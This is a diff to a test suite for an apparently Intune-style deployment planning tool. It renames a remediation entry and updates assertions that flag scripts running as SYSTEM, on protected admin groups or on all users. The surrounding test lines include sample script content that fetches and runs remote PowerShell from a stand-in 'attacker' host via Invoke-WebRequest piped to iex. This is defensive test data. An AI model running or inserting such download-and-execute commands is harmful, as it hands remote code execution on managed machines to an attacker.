@@ -149,7 +149,7 @@ run_as_account = "user"
 enforce_signature_check = false
 assignments = { include = ["intune-admins"] }
 
-[remediation.stale-temp]
+[remediation.stale-temp-wide]
 display_name = "Clear stale temp files"
 detection_file = "scripts/detect.ps1"
 remediation_file = "scripts/fix.ps1"
@@ -181,7 +181,7 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     assert!(out.contains("sensitive: script platform_script.nested runs on protected group.intune-admins (through group.admins-parent > group.intune-admins)"), "{out}");
     assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
     assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
-    assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
+    assert!(out.contains("sensitive: remediation remediation.stale-temp-wide runs on all users"), "{out}");
     assert!(out.contains("note: scriptContent + Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
 
     // On a content change: a line diff against the content the tenant holds.
@@ -196,7 +196,7 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     let out = plan_text(&sb, work.path(), &dir);
     assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
     assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
-    assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
+    assert!(out.contains("sensitive: remediation remediation.stale-temp-wide runs on all users"), "{out}");
     assert!(out.contains("note: scriptContent - Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
     assert!(out.contains("note: scriptContent + Invoke-WebRequest http://attacker/x.ps1 | iex"), "{out}");
     assert!(out.contains("note: remediationScriptContent + Invoke-WebRequest http://attacker/y.ps1 | iex"), "{out}");
